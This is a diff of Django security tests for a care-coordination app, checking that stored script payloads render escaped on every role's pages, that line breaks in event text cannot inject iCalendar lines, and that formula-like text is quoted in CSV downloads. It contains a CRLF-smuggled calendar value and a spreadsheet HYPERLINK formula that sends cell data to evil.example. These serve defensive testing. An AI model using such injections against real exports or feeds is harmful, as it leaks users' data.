@@ -151,10 +151,84 @@ def _plant_payload(personas: dict[str, Any], values: dict[str, str]) -> None:
     grant = BreakGlassAccess.objects.get(public_id=values["grant_id"])
     grant.reason = grant.review_note = PAYLOAD
     grant.save()
+    _plant_payload_around_the_care_loop(personas, values)
+
+
+def _plant_payload_around_the_care_loop(personas: dict[str, Any], values: dict[str, str]) -> None:
+    """The free text of the family's, navigator's, directory's, waitlist's and training's
+    pages, written through their actions where they have one (as the forms do)."""
+    from django.utils import timezone
+
+    from tests.web.sharing.conftest import consent_for
+    from trellis.directory import curation, events
+    from trellis.directory.models import Service
+    from trellis.family import actions as family
+    from trellis.family.models import BoundaryWorksheet, SelfCareActivity
+    from trellis.sharing.models import FamilyLink, FamilySession, Invitation, SessionInvitation
+    from trellis.training.models import TrainingAnswer
+    from trellis.waitlist import actions as waitlist
+    from trellis.waitlist.models import AllocationRun, Capacity, WaitlistEntry
+
+    pat, fran, nia, sam = (personas[r] for r in ("person", "family", "navigator", "supervisor"))
+    now = timezone.now()
+    # The family member's own tools, and her view of pat (a link, a consent, a session).
+    sheet = BoundaryWorksheet.objects.get(public_id=values["family_sheet_id"])
+    family.save_boundary(fran.user, dict.fromkeys(family.BOUNDARY_FIELDS, PAYLOAD), sheet=sheet)
+    activity = SelfCareActivity.objects.get(public_id=values["family_activity_id"])
+    activity.title = PAYLOAD
+    activity.save()
+    family.log_craft_practice(
+        fran.user,
+        values["module_id"],
+        done_on=timezone.localdate(),
+        tried=PAYLOAD,
+        outcome=3,
+        note=PAYLOAD,
+    )
+    link = FamilyLink.objects.create(person=pat.person, user=fran.user, relationship=PAYLOAD)
+    consent_for(pat, link, ["plan_goals"])
+    session = FamilySession.objects.get(public_id=values["session_id"])
+    session.place, session.starts_at = PAYLOAD, now + timezone.timedelta(days=1)  # coming up
+    session.save()
+    SessionInvitation.objects.create(session=session, link=link)
+    invitation = Invitation.objects.get(public_id=values["invitation_id"])
+    invitation.invitee_name = invitation.relationship = PAYLOAD
+    invitation.save()
+    gil = FamilyLink.objects.get(public_id=values["link_id"]).user
+    gil.first_name = PAYLOAD  # a family member names themselves when joining
+    gil.save()
+    # The directory: a curated service name and an event anyone may read.
+    service = Service.objects.get(hsds_id=values["service_id"])
+    curation.edit(service, {"name": PAYLOAD}, by=personas["admin"].user)
+    events.create(
+        {
+            "title": PAYLOAD,
+            "description": PAYLOAD,
+            "place": PAYLOAD,
+            "starts_at": now + timezone.timedelta(days=1),
+            "ends_at": now + timezone.timedelta(days=1, hours=1),
+        },
+        by=nia.user,
+    )
+    # The waitlist: the waiting person's name, needs, the program's service, a change's reason.
+    entry = WaitlistEntry.objects.get(public_id=values["waitlist_entry_id"])
+    entry.needs = PAYLOAD
+    entry.save()
+    entry.person.family_name = PAYLOAD
+    entry.person.save()
+    Capacity.objects.filter(program__public_id=values["program_id"]).update(service=PAYLOAD)
+    run = AllocationRun.objects.get(public_id=values["run_id"])
+    waitlist.change_run(run, entry, to_program=None, reason=PAYLOAD, by=sam.user)
+    # Training: the trainee's own note on a vignette.
+    answer = TrainingAnswer.objects.get(public_id=values["answer_id"])
+    answer.note = PAYLOAD
+    answer.save()
 
 
 # The pages where the payload must show, escaped (so the test cannot pass by showing nothing).
+# Every role walks every address; a role with no page of free text still proves none shows raw.
 MUST_SHOW = {
+    "anonymous": {"directory:events", "directory:service"},
     "person": {
         "plans:detail",
         "recovery:checkin_edit",
@@ -168,19 +242,43 @@ MUST_SHOW = {
         "recovery:relapse_prevention",
         "recovery:self_care",
         "recovery:support",
+        "referrals:mine",
         "sharing:consent",
         "sharing:consents",
     },
+    "other_person": set(),
     "clinician": {
         "monitoring:progress",
         "people:caseload",
         "plans:detail",
         "recovery:care_team",
         "referrals:detail",
+        "referrals:person",
+        "referrals:worklist",
         "sharing:care_team",
         "sharing:disclosure",
+        "sharing:session",
+        "training:answer",
     },
-    "supervisor": {"people:break_glass_review"},
+    "supervisor": {
+        "oversight:fidelity",
+        "people:break_glass_review",
+        "waitlist:entry_remove",
+        "waitlist:overview",
+        "waitlist:program",
+        "waitlist:run",
+    },
+    "family": {
+        "family:boundaries",
+        "family:boundary",
+        "family:craft_module",
+        "family:self_care",
+        "sharing:family_sessions",
+        "sharing:shared",
+    },
+    "navigator": {"directory:events", "referrals:detail", "referrals:person", "referrals:worklist"},
+    "admin": {"directory:curate", "directory:service", "directory:service_edit"},
+    "researcher": set(),
 }
 
 
@@ -188,7 +286,8 @@ MUST_SHOW = {
 def test_stored_script_comes_back_escaped_on_every_page(client, world, role):  # noqa: F811
     personas, values = world
     _plant_payload(personas, values)
-    sign_in(client, personas[role])
+    if role != "anonymous":
+        sign_in(client, personas[role])
 
     raw_on, escaped_on = set(), set()
     for name, route in app_urls().items():
@@ -203,6 +302,106 @@ def test_stored_script_comes_back_escaped_on_every_page(client, world, role):  #
 
     assert raw_on == set()
     assert MUST_SHOW[role] <= escaped_on, MUST_SHOW[role] - escaped_on
+
+
+def test_line_breaks_in_an_events_text_cannot_add_lines_to_the_calendar_feed(client, nia):
+    from django.utils import timezone
+
+    from trellis.directory import events
+
+    smuggled = "Walk\r\nATTENDEE:mailto:all@evil.example\r\nEND:VEVENT"
+    start = timezone.now() + timezone.timedelta(days=1)
+    events.create(
+        {
+            "title": smuggled,
+            "description": smuggled,
+            "place": smuggled,
+            "starts_at": start,
+            "ends_at": start + timezone.timedelta(hours=1),
+        },
+        by=nia.user,
+    )
+
+    lines = client.get(reverse("directory:events_ics")).content.decode().split("\r\n")
+
+    assert not [line for line in lines if line.startswith("ATTENDEE")]
+    assert lines.count("END:VEVENT") == 1
+    assert any(line.startswith("SUMMARY:Walk\\nATTENDEE") for line in lines)
+
+
+# Free text a spreadsheet would run when the CSV is opened (OWASP's CSV injection).
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+# The roles with a CSV download: the person's accounting of disclosures, the supervisor's
+# oversight tables, TEDS exports and training agreement.
+CSV_READERS = ("person", "supervisor")
+
+
+def _csv_downloads(client: Any, values: dict[str, str]) -> dict[str, str]:
+    """Every CSV the signed-in user can download: addresses that answer CSV, and each CSV link
+    on every page (the dashboards' downloads are links with a query)."""
+    import re
+    from urllib.parse import urljoin
+
+    found = {}
+    for route in app_urls().values():
+        url = concrete(route, values)
+        response = client.get(url)
+        kind = response.get("Content-Type", "")
+        if kind.startswith("text/csv"):
+            found[url] = response.content.decode()
+        elif kind.startswith("text/html"):
+            for href in re.findall(r'href="([^"]*csv[^"]*)"', response.content.decode()):
+                link = urljoin(url, href.replace("&amp;", "&"))
+                linked = client.get(link)
+                if linked.get("Content-Type", "").startswith("text/csv"):
+                    found[link] = linked.content.decode()
+    return found
+
+
+def _formula_like(cell: str) -> bool:
+    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
+        return False
+    try:
+        float(cell.rstrip("%"))
+    except ValueError:
+        return True
+    return False  # a negative figure is a number, not a formula
+
+
+def test_free_text_that_looks_like_a_formula_is_quoted_in_every_csv_download(client, world):  # noqa: F811
+    import csv
+    import io
+
+    from trellis.plans.models import Plan, PlanDeviation
+    from trellis.sharing import actions
+    from trellis.sharing.models import Consent
+
+    personas, values = world
+    consent = Consent.objects.get(public_id=values["consent_id"])
+    consent.purpose = consent.recipient_name = FORMULA
+    consent.save()
+    actions.prepare_disclosure(consent, by=personas["clinician"].user)
+    plan = Plan.objects.get(public_id=values["plan_id"])
+    PlanDeviation.objects.create(
+        plan=plan,
+        code="psy.mi",
+        action="change",
+        status="declined",
+        reason=FORMULA,
+        by=personas["clinician"].user,
+    )
+
+    quoted, unquoted = set(), set()
+    for role in CSV_READERS:
+        sign_in(client, personas[role])
+        for url, text in _csv_downloads(client, values).items():
+            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+            unquoted |= {(url, cell) for cell in cells if _formula_like(cell)}
+            quoted |= {url for cell in cells if cell == "'" + FORMULA}
+
+    assert unquoted == set()
+    assert any("/disclosures" in url for url in quoted), quoted
+    assert any("table=reasons" in url for url in quoted), quoted
 
 
 def _pdf_text(pdf: bytes, tmp_path: Any) -> str:
